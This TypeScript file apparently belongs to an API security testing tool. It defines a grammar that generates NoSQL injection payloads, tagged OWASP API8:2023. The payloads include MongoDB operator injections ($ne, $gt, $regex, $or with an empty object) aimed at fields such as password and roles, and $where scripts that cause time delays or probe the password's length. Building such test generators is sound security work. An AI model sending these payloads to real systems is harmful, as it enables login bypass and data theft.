import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'injection-nosql',
  title: 'operators of a database in the place of values',
  owasp: ['API8:2023'],
  inputs: ['json'],
  rules: {
    start: [
      '{"‹field›":‹condition›}',
      '{"‹field›":‹condition›}',
      '{"‹field›":‹condition›,"‹field›":‹condition›}',
      '{"$or":[{},{"‹field›":"‹name›"}]}',
      '{"$where":"‹script›"}',
      '{"‹field›":{"$not":‹condition›}}',
      '{"$and":[{"‹field›":‹condition›},{}]}',
    ],
    field: ['name', 'phone', 'email', 'password', 'roles'],
    condition: [
      '{"$ne":null}',
      '{"$ne":"‹name›"}',
      '{"$gt":""}',
      '{"$gte":0}',
      '{"$regex":"^‹letter›"}',
      '{"$regex":".*","$options":"i"}',
      '{"$exists":true}',
      '{"$in":["","‹n›"]}',
      '{"$nin":[‹n›]}',
      '{"$where":"‹script›"}',
      '{"$elemMatch":{"$ne":1}}',
    ],
    letter: ['a', 'b', '+49', 'adm', '.{8}'],
    script: ['sleep(‹n›000)', 'this.password.length > ‹n›', 'return true', 'function(){return true}'],
  },
})
